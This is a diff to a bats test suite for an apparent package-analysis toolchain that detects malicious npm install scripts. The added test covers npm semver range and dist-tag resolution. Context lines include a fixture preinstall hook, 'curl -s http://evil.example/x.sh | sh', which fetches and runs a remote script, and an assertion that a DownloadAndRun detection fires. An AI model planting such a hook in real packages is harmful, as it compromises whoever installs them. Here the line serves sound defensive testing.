@@ -161,7 +161,7 @@ error - - -"
 	assert_jq "${lines[1]}" '.ecosystem == "npm" and .format == "tar.gz" and .registry.install_scripts == {"preinstall": "curl -s http://evil.example/x.sh | sh"}'
 	assert_jq "${lines[0]}" '.registry.install_scripts == {} and .registry.first_upload_time == "2024-03-01T00:00:00Z"'
 	[[ ${lines[5]} == *"unknown package 'nope'"* ]]
-	[[ ${lines[6]} == *"no version '9.9' of 'leftpad'"* ]]
+	[[ ${lines[6]} == *"no version of 'leftpad' matches '9.9'"* ]]
 }
 
 @test "https/http archive URLs, verified when the URL carries #sha256=" {
@@ -369,4 +369,46 @@ artifact oldpkg 0.5"
 	# The tarball's own package.json counts even when the registry document hides the script.
 	run -0 --separate-stderr bash -c "aura-fetch --registry '$BASE/' npm:@acme/widget | jq -c 'if .type == \"artifact\" then .registry.install_scripts = {} else . end' | aura-unpack | aura-parse | aura-rewrite | aura-analyze"
 	assert_jq "$(printf '%s\n' "$output" | grep '"type":"hit"')" '.detection == "DownloadAndRun" and .file'
+}
+
+@test "npm ranges resolve to the newest matching version (node-semver); pre-releases only with --pre; dist-tags" {
+	resolve() { aura-fetch --registry "$BASE/" "npm:ranged@$1" 2>/dev/null | jq -r 'if .type == "artifact" then .version else "error: " + .message end'; }
+	while IFS=';' read -r range want; do
+		assert_equal "$range -> $(resolve "$range")" "$range -> $want"
+	done <<-EOF
+	^1.2;1.10.0
+	^1.2.6;1.10.0
+	~1.2.3;1.2.5
+	~1.2;1.2.5
+	~1;1.10.0
+	^0.2;0.2.9
+	^0.0.3;0.0.3
+	^0;0.9.0
+	>=1 <2;1.10.0
+	>=1.0.0 <1.3;1.2.5
+	1.x;1.10.0
+	1.2.x;1.2.5
+	*;3.0.0
+	x;3.0.0
+	>1.2 <2;1.10.0
+	<=1.2;1.2.5
+	<1.2;1.0.0
+	1.0.0 - 1.2;1.2.5
+	1.0 - 2;2.0.0
+	^0.0.1 || ~1.2;1.2.5
+	1.3.0-beta.1;1.3.0-beta.1
+	^1.3.0-beta.0;1.10.0
+	>=1.3.0-beta.0 <1.4;1.3.0-beta.1
+	>=2.0.1 <3;error: no version of 'ranged' matches '>=2.0.1 <3' (pre-releases only with --pre)
+	latest;2.0.0
+	next;3.0.0
+	2.0.0;2.0.0
+	^9;error: no version of 'ranged' matches '^9' (pre-releases only with --pre)
+	>=x.y;error: '>=x.y' is not a version, dist-tag or range of 'ranged'
+	EOF
+	run -0 aura-fetch --registry "$BASE/" --pre 'npm:ranged@>=2.0.1 <3'
+	assert_jq "$output" '.version == "2.1.0-rc.1"'
+	# No version: the "latest" dist-tag, never the newest number.
+	run -0 aura-fetch --registry "$BASE/" npm:ranged
+	assert_jq "$output" '.version == "2.0.0"'
 }
